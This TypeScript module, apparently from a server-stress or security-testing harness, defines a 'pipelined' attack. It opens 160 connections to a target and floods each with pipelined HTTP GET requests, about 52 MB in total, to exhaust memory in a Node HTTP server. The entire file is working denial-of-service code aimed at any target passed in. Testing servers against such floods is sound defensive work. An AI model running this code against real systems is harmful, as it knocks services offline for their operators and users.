import { setTimeout as wait } from 'node:timers/promises';
import { type Attack, open } from './attack.ts';

const REQUEST = 'GET / HTTP/1.1\r\n\r\n';
const CONNECTIONS = 160;
/** As many as fit into one read of 64 KiB, five times. */
const FLOOD = Buffer.from(REQUEST.repeat(3640));
const FLOODS = 5;

/** 18 bytes became a request and a response that Node kept until the connection was destroyed. */
export const pipelined: Attack = {
  name: 'pipelined',
  what: '160 connections send 18,200 requests each after one that is refused: 52 MB',
  async run(target) {
    const sockets = await Promise.all(Array.from({ length: CONNECTIONS }, () => open(target)));
    for (let round = 0; round < FLOODS; round++) {
      for (const socket of sockets) socket.write(FLOOD);
      await wait(200);
    }
    await wait(3000);
    const bytes = sockets.reduce((sum, socket) => sum + socket.bytesWritten, 0);
    for (const socket of sockets) socket.destroy();
    return { connections: CONNECTIONS, bytes };
  },
};
